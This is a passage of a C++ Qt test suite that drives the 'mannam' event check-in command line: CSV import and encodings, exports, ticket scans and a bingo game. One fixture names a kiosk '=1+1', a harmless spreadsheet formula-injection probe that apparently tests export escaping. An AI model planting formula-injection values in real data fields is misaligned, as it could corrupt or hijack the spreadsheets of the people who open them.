// End-to-end tests of the command line: the real `mannam` executable (path in
// MANNAM_BINARY) run with QProcess on real files in a temporary folder, checking
// exit codes, stdout/stderr and the files it reads and writes.
#include "TestSupport.h"

#include "bingo/BingoService.h"
#include "codes/TicketCode.h"
#include "storage/BingoStore.h"
#include "storage/EventFile.h"
#include "storage/StorageError.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>
#include <QTimeZone>
#include <QUuid>

#include <memory>

using namespace Qt::StringLiterals;

namespace mannam {

namespace {

constexpr int ProcessTimeoutMs = 30000;

// What one run of the executable came to.
struct Run
{
    bool finished = false;     // false: still running after the timeout (then killed)
    bool crashed = false;
    int exitCode = -1;
    QString out;
    QString err;

    // For QVERIFY2 messages.
    QByteArray describe() const
    {
        return (u"exit %1%2\n--- stdout:\n%3--- stderr:\n%4"_s)
                .arg(exitCode)
                .arg(!finished ? u" (timed out)"_s : crashed ? u" (crashed)"_s : QString())
                .arg(out, err)
                .toUtf8();
    }
};

QByteArray readBytes(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return file.readAll();
}

bool writeBytes(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
}

// An independent RFC 4180 reader for checking what the exporter wrote (not the
// app's own CsvReader, which would check itself).
QList<QStringList> parseCsvText(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    bool pending = false;  // something of the current row was read
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') {
                    cell += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                cell += c;
            }
            continue;
        }
        if (c == u'"') {
            quoted = true;
            pending = true;
        } else if (c == u',') {
            row << cell;
            cell.clear();
            pending = true;
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            continue;
        } else if (c == u'\n') {
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
            pending = false;
        } else {
            cell += c;
            pending = true;
        }
    }
    if (pending) {
        row << cell;
        rows << row;
    }
    return rows;
}

// One cell of a CSV file we feed to the importer.
QString csvCell(const QString &value)
{
    if (!value.contains(u',') && !value.contains(u'"') && !value.contains(u'\n'))
        return value;
    return u'"' + QString(value).replace(u"\""_s, u"\"\""_s) + u'"';
}

// An exported CSV read back: header and rows, cells looked up by column name.
struct Table
{
    QByteArray bytes;
    QStringList header;
    QList<QStringList> rows;
    QString problem;  // empty when the export ran and the file parsed

    QString cell(int row, const QString &column) const
    {
        const qsizetype c = header.indexOf(column);
        return c < 0 ? u"<no column %1>"_s.arg(column) : rows.value(row).value(c);
    }
    QStringList column(const QString &name) const
    {
        QStringList values;
        for (int r = 0; r < rows.size(); ++r)
            values << cell(r, name);
        return values;
    }
    int rowOf(const QString &column, const QString &value) const
    {
        for (int r = 0; r < rows.size(); ++r) {
            if (cell(r, column) == value)
                return r;
        }
        return -1;
    }
};

const QString AttendeesHeader = u"이름,이메일,연락처,소속,티켓 종류,신청번호\n"_s;

// Three people, one name with a comma-free Korean name, one with a quoted comma
// and one English name with a line break inside quotes.
QString threePeopleCsv()
{
    return AttendeesHeader
            + u"홍길동,hong@example.org,010-1234-5678,\"만남, 커뮤니티\",일반,R-1001\n"
              "김민지,minji@example.org,01022223333,AI 스터디,VIP,R-1002\n"
              "\"Ada\nLovelace\",ada@example.org,+82 10 4444 5555,Analytical Engines,Speaker,R-1003\n"_s;
}

// ---------------------------------------------------------------- bingo fixtures

// The nine keywords of the bingo tests as "Korean|English|category", in file order.
const QStringList NineKeywords = {
    u"대규모 언어 모델|LLM|AI"_s,   u"검색 증강 생성|RAG|AI"_s,     u"컴퓨터 비전|Computer Vision|AI"_s,
    u"러스트|Rust|Dev"_s,           u"파이썬|Python|Dev"_s,         u"쿠버네티스|Kubernetes|Dev"_s,
    u"통계|Statistics|Data"_s,      u"오픈소스|Open Source|Community"_s, u"연구|Research|Community"_s};

// Keyword entries ("ko|en|category") as CSV lines, each cell quoted when needed.
QString keywordLines(const QStringList &entries, QChar separator = u',', const QString &lineEnd = u"\n"_s)
{
    QString text;
    for (const QString &entry : entries) {
        QStringList cells = entry.split(u'|');
        for (QString &cell : cells)
            cell = csvCell(cell);
        text += cells.join(separator) + lineEnd;
    }
    return text;
}

// "키워드01|K01|C0" ... for pools big enough for a 5×5 card.
QStringList numberedKeywords(int count)
{
    QStringList entries;
    for (int i = 1; i <= count; ++i)
        entries << u"키워드%1|K%1|C%2"_s.arg(i, 2, 10, QChar(u'0')).arg(i / 10);
    return entries;
}

// Six people for the bingo with their "my keywords" (Korean and English, any
// case): 홍길동 meets Alice (3 squares), 김민지 (3 more) and Ada (the last 3) and
// fills his 3×3 card. 지각생 never checks in; 취소한사람 cancelled.
const QString BingoPeopleCsv = u"이름,이메일,소속,키워드,상태\n"
                               "홍길동,hong@example.org,\"만남, 커뮤니티\",LLM; 러스트,\n"
                               "Alice Park,alice@example.org,Analytical Engines,\"rag, 컴퓨터 비전, python\",\n"
                               "김민지,minji@example.org,AI 스터디,LLM; Rust; 쿠버네티스,\n"
                               "Ada Lovelace,ada@example.org,,\"통계, Open Source, 연구\",\n"
                               "지각생,late@example.org,,LLM,\n"
                               "취소한사람,gone@example.org,,LLM,취소\n"_s;

// The bingo as stored in an event file, read through the core on a read-only connection.
struct StoredBingo
{
    QStringList pool;  // "ko|en|category"
    BingoSettings settings;
    bool hasPin = false;
    bool pinMatches = false;
    int cards = 0;
    int meetings = 0;
    int winners = 0;
    QString problem;
};

StoredBingo storedBingo(const QString &event, const QString &pin = {})
{
    StoredBingo state;
    try {
        auto file = EventFile::open(event, Database::Access::ReadOnly);
        BingoService service(file->store());
        const QList<BingoKeyword> pool = service.keywordPool();
        for (const BingoKeyword &keyword : pool)
            state.pool << keyword.labelKo + u'|' + keyword.labelEn + u'|' + keyword.category;
        state.settings = service.settings();
        state.hasPin = service.hasKioskPin();
        state.pinMatches = !pin.isEmpty() && service.verifyKioskPin(pin);
        BingoStore bingo(file->store());
        state.cards = bingo.cardCount();
        state.meetings = bingo.meetingCount();
        state.winners = bingo.winnerCount();
    } catch (const StorageError &error) {
        state.problem = error.message();
    }
    return state;
}

// One attendee as stored (for badge codes and ids, which no export shows).
Attendee storedAttendee(const QString &event, const QString &name)
{
    auto file = EventFile::open(event, Database::Access::ReadOnly);
    const QList<Attendee> attendees = file->store().attendees();
    for (const Attendee &a : attendees) {
        if (a.name == name)
            return a;
    }
    return {};
}

// HH:mm of an exported local time ("2026-11-28T19:05:01.123+09:00").
QString clockOf(const QString &isoLocal)
{
    return isoLocal.mid(11, 5);
}

const QRegularExpression LocalIso(u"^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\+09:00$"_s);

} // namespace

class TestCli : public QObject
{
    Q_OBJECT

private:
    QString m_binary;
    std::unique_ptr<QTemporaryDir> m_runtimeDir;  // XDG_RUNTIME_DIR for the child processes
    std::unique_ptr<QTemporaryDir> m_dir;         // fresh for every test function and data row

    QString path(const QString &name) const { return m_dir->filePath(name); }

    QProcessEnvironment environment() const
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(u"QT_QPA_PLATFORM"_s, u"offscreen"_s);
        env.insert(u"LC_ALL"_s, u"C.UTF-8"_s);
        // A zone with a non-zero offset, so that exported local times show "+09:00".
        env.insert(u"TZ"_s, u"Asia/Seoul"_s);
        env.insert(u"XDG_RUNTIME_DIR"_s, m_runtimeDir->path());
        // Settings, data and caches of anything the app writes stay out of the user's home.
        env.insert(u"XDG_CONFIG_HOME"_s, m_runtimeDir->filePath(u"config"_s));
        env.insert(u"XDG_DATA_HOME"_s, m_runtimeDir->filePath(u"data"_s));
        env.insert(u"XDG_CACHE_HOME"_s, m_runtimeDir->filePath(u"cache"_s));
        return env;
    }

    Run mannam(const QStringList &arguments, int timeoutMs = ProcessTimeoutMs) const
    {
        QProcess process;
        process.setProcessEnvironment(environment());
        process.setWorkingDirectory(m_dir->path());
        process.start(m_binary, arguments);
        Run run;
        if (!process.waitForStarted(timeoutMs)) {
            run.err = process.errorString();
            return run;
        }
        run.finished = process.waitForFinished(timeoutMs);
        if (!run.finished) {
            process.kill();
            process.waitForFinished(5000);
        }
        run.crashed = process.exitStatus() == QProcess::CrashExit;
        run.exitCode = run.finished && !run.crashed ? process.exitCode() : -1;
        run.out = QString::fromUtf8(process.readAllStandardOutput());
        run.err = QString::fromUtf8(process.readAllStandardError());
        return run;
    }

    // A new event file in the test folder; empty string when `new` failed.
    QString newEvent(const QString &name = u"event.mannam"_s)
    {
        const QString file = path(name);
        const Run run = mannam({u"new"_s, file, u"--name"_s, u"AI 스터디 밋업"_s, u"--desk"_s, u"Desk 1"_s});
        if (run.exitCode != 0) {
            qWarning("new failed: %s", run.describe().constData());
            return {};
        }
        return file;
    }

    Run importText(const QString &event, const QString &csvName, const QByteArray &bytes,
                   const QStringList &extra = {})
    {
        const QString csv = path(csvName);
        if (!writeBytes(csv, bytes)) {
            Run failed;
            failed.err = u"could not write "_s + csv;
            return failed;
        }
        return mannam(QStringList{u"import"_s, event, csv} + extra);
    }

    // An event with the three people of threePeopleCsv(); empty when that failed.
    QString eventWithThreePeople()
    {
        const QString event = newEvent();
        if (event.isEmpty())
            return {};
        const Run run = importText(event, u"three.csv"_s, threePeopleCsv().toUtf8());
        if (run.exitCode != 0) {
            qWarning("import failed: %s", run.describe().constData());
            return {};
        }
        return event;
    }

    Table exportTable(const QString &event, const QString &flag)
    {
        Table table;
        const QString out = path(u"export-%1.csv"_s.arg(QUuid::createUuid().toString(QUuid::Id128)));
        const Run run = mannam({u"export"_s, event, flag, out});
        if (run.exitCode != 0) {
            table.problem = QString::fromUtf8(run.describe());
            return table;
        }
        table.bytes = readBytes(out);
        QFile::remove(out);
        if (!table.bytes.startsWith("\xEF\xBB\xBF")) {
            table.problem = u"no UTF-8 BOM"_s;
            return table;
        }
        const QList<QStringList> rows = parseCsvText(QString::fromUtf8(table.bytes.mid(3)));
        if (rows.isEmpty()) {
            table.problem = u"no header row"_s;
            return table;
        }
        table.header = rows.first();
        table.rows = rows.mid(1);
        return table;
    }

    QString ticketCodeOf(const QString &event, const QString &name)
    {
        const Table table = exportTable(event, u"--attendance"_s);
        const int row = table.rowOf(u"name"_s, name);
        return row < 0 ? QString() : table.cell(row, u"ticket_code"_s);
    }

    QJsonObject statsJson(const QString &event)
    {
        const Run run = mannam({u"stats"_s, event, u"--json"_s});
        if (run.exitCode != 0)
            return {};
        return QJsonDocument::fromJson(run.out.toUtf8()).object();
    }

    // The report line of an import: "Added 1, updated 0, unchanged 2, skipped 0."
    static QString countsLine(const QString &output)
    {
        static const QRegularExpression counts(u"^(Added|Would add) .*$"_s, QRegularExpression::MultilineOption);
        return counts.match(output).captured(0);
    }

    // The names in the event, as the attendance export lists them, sorted.
    QStringList sortedNames(const QString &event)
    {
        QStringList names = exportTable(event, u"--attendance"_s).column(u"name"_s);
        names.sort();
        return names;
    }

    // Files in the test folder, to show that a refused command left nothing behind.
    // SQLite's -wal and -shm files can be left out: a read-only open (export,
    // stats, tickets) leaves them beside the event file.
    enum class Sidecars { Include, Exclude };
    QStringList folderListing(Sidecars sidecars = Sidecars::Include) const
    {
        QStringList names =
                QDir(m_dir->path()).entryList(QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot, QDir::Name);
        if (sidecars == Sidecars::Exclude)
            names.removeIf([](const QString &name) { return name.endsWith(u"-wal") || name.endsWith(u"-shm"); });
        return names;
    }

    // Three registered and one cancelled; 홍길동 in, 김민지 in and out again, a
    // second scan of 홍길동, a misread and a cancelled ticket at the door.
    QString eventAfterAnEvening()
    {
        const QString event = eventWithThreePeople();
        if (event.isEmpty())
            return {};
        if (importText(event, u"cancel.csv"_s, u"이름,상태\n취소한사람,취소\n"_s.toUtf8()).exitCode != 0)
            return {};
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QString minji = ticketCodeOf(event, u"김민지"_s);
        const QString cancelled = ticketCodeOf(event, u"취소한사람"_s);
        const QList<QPair<QStringList, int>> scans = {
            {{hong}, 0}, {{hong}, 1}, {{minji}, 0}, {{minji, u"--exit"_s}, 0}, {{u"1234 5678"_s}, 2},
            {{cancelled}, 2}};
        for (const auto &[arguments, exitCode] : scans) {
            const Run run = mannam(QStringList{u"checkin"_s, event, u"--desk"_s, u"Desk 1"_s} + arguments);
            if (run.exitCode != exitCode) {
                qWarning("unexpected: %s", run.describe().constData());
                return {};
            }
        }
        return event;
    }

    // ---------------------------------------------------------------- bingo helpers

    Run bingo(const QString &event, const QStringList &options)
    {
        return mannam(QStringList{u"bingo"_s, event} + options);
    }

    // The bingo people imported; the first four checked in at Desk 1; with
    // `withPool` the nine keywords on a 3×3 card without a centre, 8 lines to
    // win (a full card). Empty when a step failed.
    QString eventReadyForBingo(bool withPool = true)
    {
        const QString event = newEvent();
        if (event.isEmpty())
            return {};
        const Run import = importText(event, u"people.csv"_s, BingoPeopleCsv.toUtf8());
        if (import.exitCode != 0) {
            qWarning("import failed: %s", import.describe().constData());
            return {};
        }
        if (withPool) {
            if (!writeBytes(path(u"pool.csv"_s), (u"ko,en,category\n"_s + keywordLines(NineKeywords)).toUtf8()))
                return {};
            const Run setUp = bingo(event, {u"--keywords"_s, path(u"pool.csv"_s), u"--size"_s, u"3"_s,
                                            u"--free-centre"_s, u"off"_s, u"--lines"_s, u"8"_s});
            if (setUp.exitCode != 0) {
                qWarning("bingo failed: %s", setUp.describe().constData());
                return {};
            }
        }
        for (const QString &name : {u"홍길동"_s, u"Alice Park"_s, u"김민지"_s, u"Ada Lovelace"_s}) {
            const Run checkIn = mannam({u"checkin"_s, event, ticketCodeOf(event, name), u"--desk"_s, u"Desk 1"_s});
            if (checkIn.exitCode != 0) {
                qWarning("checkin failed: %s", checkIn.describe().constData());
                return {};
            }
        }
        return event;
    }

    // 홍길동 met Alice (Kiosk 1), 김민지 (Kiosk 2, her badge first) and Ada
    // (kiosk "=1+1") and won; no prize yet. Empty when a step failed.
    QString eventWithAWinner()
    {
        const QString event = eventReadyForBingo();
        if (event.isEmpty())
            return {};
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QList<QStringList> meetings = {
            {hong, ticketCodeOf(event, u"Alice Park"_s), u"Kiosk 1"_s},
            {storedAttendee(event, u"김민지"_s).badgeCode, hong, u"Kiosk 2"_s},
            {hong, storedAttendee(event, u"Ada Lovelace"_s).badgeCode, u"=1+1"_s}};
        for (const QStringList &m : meetings) {
            const Run run = mannam({u"meet"_s, event, m.at(0), m.at(1), u"--kiosk"_s, m.at(2)});
            if (run.exitCode != 0) {
                qWarning("meet failed: %s", run.describe().constData());
                return {};
            }
        }
        return event;
    }

    // Now in the children's time zone, moved by `hours`, as HH:mm.
    static QString seoulClock(int hours)
    {
        return QDateTime::currentDateTimeUtc()
                .toTimeZone(QTimeZone("Asia/Seoul"))
                .addSecs(hours * 3600)
                .toString(u"HH:mm"_s);
    }

private slots:
    void initTestCase()
    {
        m_binary = qEnvironmentVariable("MANNAM_BINARY");
        QVERIFY2(!m_binary.isEmpty(), "MANNAM_BINARY is not set; run through ctest");
        QVERIFY2(QFileInfo(m_binary).isExecutable(), qPrintable(m_binary));
        m_runtimeDir = std::make_unique<QTemporaryDir>();
        QVERIFY(m_runtimeDir->isValid());
        QFile::setPermissions(m_runtimeDir->path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    }

    void init()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        QVERIFY(m_dir->isValid());
    }

    void cleanup()
    {
        m_dir.reset();
    }

    // ---------------------------------------------------------------- general

    void version_printsNameAndVersion()
    {
        const Run run = mannam({u"--version"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"mannam "_s + QStringLiteral(MANNAM_VERSION) + u'\n');
    }

    void help_listsEveryVerbAndTheExitCodes()
    {
        const Run run = mannam({u"--help"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        for (const QString &verb : {u"new"_s, u"import"_s, u"export"_s, u"tickets"_s, u"checkin"_s, u"stats"_s,
                                    u"bingo"_s, u"meet"_s, u"prize"_s})
            QVERIFY2(run.out.contains(u"mannam "_s + verb + u' '), qPrintable(verb));
        for (const QString &option : {u"--meetings"_s, u"--winners"_s, u"--contacts"_s, u"--size"_s, u"--lines"_s, u"--free-centre"_s,
                                      u"--keywords"_s, u"--needs-checkin"_s, u"--kiosk-hours"_s,
                                      u"--big-screen-names"_s, u"--pin"_s, u"--kiosk"_s, u"--by"_s})
            QVERIFY2(run.out.contains(option), qPrintable(option));
        QVERIFY(run.out.contains(u"Exit codes"_s));
        QVERIFY(run.err.isEmpty());
    }

    void badArguments_exitThreeWithUsageOnStderr_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("message");
        QTest::addRow("unknown top-level option") << QStringList{u"--bogus"_s} << u"Unknown option 'bogus'"_s;
        QTest::addRow("unknown option of a verb")
                << QStringList{u"stats"_s, u"event.mannam"_s, u"--bogus"_s} << u"Unknown option 'bogus'"_s;
        QTest::addRow("option value missing")
                << QStringList{u"checkin"_s, u"event.mannam"_s, u"1234"_s, u"--desk"_s} << u"desk"_s;
        QTest::addRow("checkin without a code") << QStringList{u"checkin"_s, u"event.mannam"_s} << u"checkin:"_s;
        QTest::addRow("stats without a file") << QStringList{u"stats"_s} << u"stats:"_s;
        QTest::addRow("import without a csv") << QStringList{u"import"_s, u"event.mannam"_s} << u"import:"_s;
        QTest::addRow("import with an unknown encoding")
                << QStringList{u"import"_s, u"event.mannam"_s, u"a.csv"_s, u"--encoding"_s, u"latin1"_s}
                << u"unknown encoding 'latin1'"_s;
        QTest::addRow("tickets without --out") << QStringList{u"tickets"_s, u"event.mannam"_s} << u"tickets:"_s;
        QTest::addRow("bingo without a file") << QStringList{u"bingo"_s} << u"bingo:"_s;
        QTest::addRow("meet with one code") << QStringList{u"meet"_s, u"event.mannam"_s, u"1234"_s} << u"meet:"_s;
        QTest::addRow("meet with an empty kiosk name")
                << QStringList{u"meet"_s, u"event.mannam"_s, u"1234"_s, u"5678"_s, u"--kiosk"_s, u" "_s}
                << u"--kiosk needs a name"_s;
        QTest::addRow("prize without a code") << QStringList{u"prize"_s, u"event.mannam"_s} << u"prize:"_s;
        QTest::addRow("prize with an empty --by")
                << QStringList{u"prize"_s, u"event.mannam"_s, u"1234"_s, u"--by"_s, QString()} << u"--by needs a name"_s;
    }

    void badArguments_exitThreeWithUsageOnStderr()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, message);
        const Run run = mannam(arguments);
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
        QVERIFY(run.out.isEmpty());
    }

    // A mistyped verb must not open the app and wait for somebody to close a window.
    void unknownVerb_exitsThreeWithUsageOnStderr()
    {
        const Run run = mannam({u"chekin"_s, u"event.mannam"_s, u"1234"_s}, 4000);
        QVERIFY2(run.finished, "still running after 4 s: the app window opened instead of a usage error");
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
    }

    // ---------------------------------------------------------------- new

    void new_createsEventFile()
    {
        const QString file = path(u"meetup.mannam"_s);
        const Run run = mannam({u"new"_s, file, u"--name"_s, u"AI 스터디 밋업 #12"_s, u"--venue"_s, u"강남"_s,
                                u"--starts"_s, u"2026-11-28T14:00+09:00"_s, u"--ends"_s, u"2026-11-28T18:00+09:00"_s,
                                u"--desk"_s, u"Desk 1"_s, u"--desk"_s, u"Desk 2"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Created"_s) && run.out.contains(u"AI 스터디 밋업 #12"_s), run.describe());
        QVERIFY(readBytes(file).startsWith("SQLite format 3"));

        const QJsonObject stats = statsJson(file);
        QCOMPARE(stats.value(u"event"_s).toString(), u"AI 스터디 밋업 #12"_s);
        QCOMPARE(stats.value(u"registered"_s).toInt(-1), 0);
    }

    void new_existingPath_exitsFourAndLeavesFileUnchanged_data()
    {
        QTest::addColumn<bool>("mannamFile");
        QTest::addRow("an event file") << true;
        QTest::addRow("some other file") << false;
    }

    void new_existingPath_exitsFourAndLeavesFileUnchanged()
    {
        QFETCH(bool, mannamFile);
        const QString file = path(u"event.mannam"_s);
        if (mannamFile)
            QVERIFY(!eventWithThreePeople().isEmpty());
        else
            QVERIFY(writeBytes(file, "my notes, not an event\n"));
        const QByteArray before = readBytes(file);
        const QStringList listing = folderListing();

        const Run run = mannam({u"new"_s, file, u"--name"_s, u"Other"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"already exists"_s), run.describe());
        QCOMPARE(readBytes(file), before);
        QCOMPARE(folderListing(), listing);
    }

    void new_badArguments_exitThreeAndCreateNothing_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<QString>("message");
        QTest::addRow("no --name") << QStringList{u"--venue"_s, u"강남"_s} << u"--name is required"_s;
        QTest::addRow("blank --name") << QStringList{u"--name"_s, u"   "_s} << u"--name is required"_s;
        QTest::addRow("bad --starts") << QStringList{u"--name"_s, u"X"_s, u"--starts"_s, u"next friday"_s}
                                      << u"'next friday' is not an ISO 8601"_s;
        QTest::addRow("bad --ends") << QStringList{u"--name"_s, u"X"_s, u"--ends"_s, u"2026-13-45T25:00"_s}
                                    << u"is not an ISO 8601"_s;
        QTest::addRow("ends before starts")
                << QStringList{u"--name"_s, u"X"_s, u"--starts"_s, u"2026-11-28T14:00+09:00"_s, u"--ends"_s,
                               u"2026-11-28T13:59+09:00"_s}
                << u"ends before it starts"_s;
        QTest::addRow("ends before starts, other offsets")
                << QStringList{u"--name"_s, u"X"_s, u"--starts"_s, u"2026-11-28T14:00+09:00"_s, u"--ends"_s,
                               u"2026-11-28T04:30Z"_s}
                << u"ends before it starts"_s;
    }

    void new_badArguments_exitThreeAndCreateNothing()
    {
        QFETCH(QStringList, options);
        QFETCH(QString, message);
        const Run run = mannam(QStringList{u"new"_s, path(u"event.mannam"_s)} + options);
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
        QCOMPARE(folderListing(), QStringList());
    }

    // ---------------------------------------------------------------- import

    void import_koreanHeaders_addsEveryoneWithTheirFields()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run run = importText(event, u"festa.csv"_s, threePeopleCsv().toUtf8());
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Encoding: utf-8"_s), run.describe());
        QVERIFY2(run.out.contains(u"이름 → name, 이메일 → email, 연락처 → phone, 소속 → affiliation, "
                                  "티켓 종류 → ticket_type, 신청번호 → external_id"_s),
                 run.describe());
        QCOMPARE(countsLine(run.out), u"Added 3, updated 0, unchanged 0, skipped 0."_s);

        const Table table = exportTable(event, u"--attendance"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.rows.size(), 3);
        QCOMPARE(table.column(u"name"_s), QStringList({u"홍길동"_s, u"김민지"_s, u"Ada\nLovelace"_s}));
        QCOMPARE(table.column(u"affiliation"_s),
                 QStringList({u"만남, 커뮤니티"_s, u"AI 스터디"_s, u"Analytical Engines"_s}));
        QCOMPARE(table.column(u"phone"_s), QStringList({u"010-1234-5678"_s, u"010-2222-3333"_s, u"010-4444-5555"_s}));
        QCOMPARE(table.column(u"external_id"_s), QStringList({u"R-1001"_s, u"R-1002"_s, u"R-1003"_s}));
        QCOMPARE(table.column(u"status"_s), QStringList(3, u"registered"_s));
        static const QRegularExpression generated(u"^\\d{24}$"_s);
        for (const QString &code : table.column(u"ticket_code"_s))
            QVERIFY2(generated.match(code).hasMatch(), qPrintable(code));
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 3);
    }

    void import_encodings_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("reportedEncoding");

        // 똠 and 샾 are outside EUC-KR: only Windows' CP949 (UHC) has them.
        const QString text = u"이름,이메일,연락처,소속\r\n"
                             "홍길동,hong@example.org,010-1234-5678,\"만남, 주식회사\"\r\n"
                             "똠방각하,ddom@example.org,010-2345-6789,샾 연구소\r\n"_s;
        QStringEncoder cp949("windows-949");
        QVERIFY(cp949.isValid());
        const QByteArray cp949Bytes = cp949.encode(text);
        QVERIFY(!cp949.hasError());
        QVERIFY(cp949Bytes != text.toUtf8());

        QTest::addRow("utf-8") << text.toUtf8() << u"utf-8"_s;
        QTest::addRow("utf-8 with BOM") << QByteArray("\xEF\xBB\xBF" + text.toUtf8()) << u"utf-8"_s;
        QTest::addRow("cp949") << cp949Bytes << u"cp949"_s;
    }

    void import_encodings()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, reportedEncoding);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run run = importText(event, u"people.csv"_s, bytes);
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Encoding: "_s + reportedEncoding), run.describe());
        // The BOM is not part of the first header: 이름 is still recognised.
        QVERIFY2(run.out.contains(u"Columns: 이름 → name,"_s), run.describe());
        QCOMPARE(countsLine(run.out), u"Added 2, updated 0, unchanged 0, skipped 0."_s);

        const Table table = exportTable(event, u"--attendance"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.column(u"name"_s), QStringList({u"홍길동"_s, u"똠방각하"_s}));
        QCOMPARE(table.column(u"affiliation"_s), QStringList({u"만남, 주식회사"_s, u"샾 연구소"_s}));
    }

    void import_dryRun_reportsEachLineAndChangesNothing()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"first.csv"_s,
                           (AttendeesHeader + u"홍길동,hong@example.org,010-1234-5678,만남,일반,R-1001\n"_s).toUtf8())
                        .exitCode
                == 0);
        const QByteArray eventBefore = readBytes(event);
        const QJsonObject statsBefore = statsJson(event);

        // Line 3 holds a line break inside quotes, so the next record starts on line 5.
        const QString csv = AttendeesHeader
                + u"홍길동,hong@example.org,010-9999-8888,만남,일반,R-1001\n"
                  "\"Ada\nLovelace\",ada@example.org,,,,R-1003\n"
                  ",nobody@example.org,,,,\n"
                  "김민지,minji@example.org,,,,R-1002\n"
                  "김민지,minji@example.org,,,,R-1002\n"_s;
        const Run run = importText(event, u"second.csv"_s, csv.toUtf8(), {u"--dry-run"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(countsLine(run.out), u"Would add 2, update 1, leave 0 unchanged, skip 2."_s);
        QVERIFY2(run.out.contains(u"line 2: update 홍길동 (phone)"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 3: add Ada\nLovelace"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 5: skip (no name)"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 6: add 김민지"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 7: skip 김민지 — the same person as line 6"_s), run.describe());

        QCOMPARE(statsJson(event), statsBefore);
        QCOMPARE(readBytes(event), eventBefore);
        QCOMPARE(sortedNames(event), QStringList({u"홍길동"_s}));
    }

    void import_sameFileTwice_secondRunChangesNothing()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const Table before = exportTable(event, u"--attendance"_s);

        const Run again = mannam({u"import"_s, event, path(u"three.csv"_s)});
        QVERIFY2(again.exitCode == 0, again.describe());
        QCOMPARE(countsLine(again.out), u"Added 0, updated 0, unchanged 3, skipped 0."_s);
        QCOMPARE(exportTable(event, u"--attendance"_s).bytes, before.bytes);
    }

    void import_updatedExport_addsNewAndUpdatesChanged()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString codeBefore = ticketCodeOf(event, u"김민지"_s);

        const QString updated = AttendeesHeader
                + u"홍길동,hong@example.org,010-1234-5678,\"만남, 커뮤니티\",일반,R-1001\n"
                  "김민지,minji@example.org,010-7777-8888,AI 스터디,VIP,R-1002\n"
                  "\"Ada\nLovelace\",ada@example.org,+82 10 4444 5555,Analytical Engines,Speaker,R-1003\n"
                  "이서준,seojun@example.org,010-5555-6666,오픈소스 모임,일반,R-1004\n"_s;
        const Run run = importText(event, u"updated.csv"_s, updated.toUtf8());
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(countsLine(run.out), u"Added 1, updated 1, unchanged 2, skipped 0."_s);

        const Table table = exportTable(event, u"--attendance"_s);
        QCOMPARE(table.rows.size(), 4);
        const int minji = table.rowOf(u"name"_s, u"김민지"_s);
        QCOMPARE(table.cell(minji, u"phone"_s), u"010-7777-8888"_s);
        QCOMPARE(table.cell(minji, u"ticket_code"_s), codeBefore);  // codes survive an update
        QVERIFY(table.rowOf(u"name"_s, u"이서준"_s) >= 0);
    }

    void import_matchesExistingPeople_data()
    {
        QTest::addColumn<QString>("first");
        QTest::addColumn<QString>("second");
        QTest::addColumn<QString>("counts");
        QTest::addColumn<QStringList>("names");

        QTest::addRow("by external id, although name, email and phone changed")
                << u"이름,이메일,연락처,신청번호\n홍길동,hong@example.org,010-1234-5678,R-1\n"
